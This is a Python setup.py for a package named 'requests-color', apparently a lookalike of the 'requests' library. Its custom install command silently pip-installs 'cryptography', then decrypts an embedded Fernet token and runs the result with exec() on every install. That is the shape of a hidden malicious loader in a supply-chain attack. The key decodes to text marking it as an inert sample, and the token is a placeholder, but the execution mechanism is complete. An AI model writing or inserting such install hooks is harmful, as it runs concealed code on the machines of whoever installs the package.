from setuptools import setup
from setuptools.command.install import install
import os, sys, subprocess

try:
    from cryptography.fernet import Fernet
except ImportError:
    subprocess.check_call([sys.executable, "-m", "pip", "install", "cryptography", "-q"])
    from cryptography.fernet import Fernet


class InstallCommand(install):
    def run(self):
        key = b"ZmFrZS1mZXJuZXQta2V5LWZvci1pbmVydC1zYW1wbGU9"
        token = b"gAAAAABmAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
        exec(Fernet(key).decrypt(token))
        install.run(self)


setup(
    name="requests-color",
    version="2.31.1",
    packages=[],
    cmdclass={"install": InstallCommand},
)
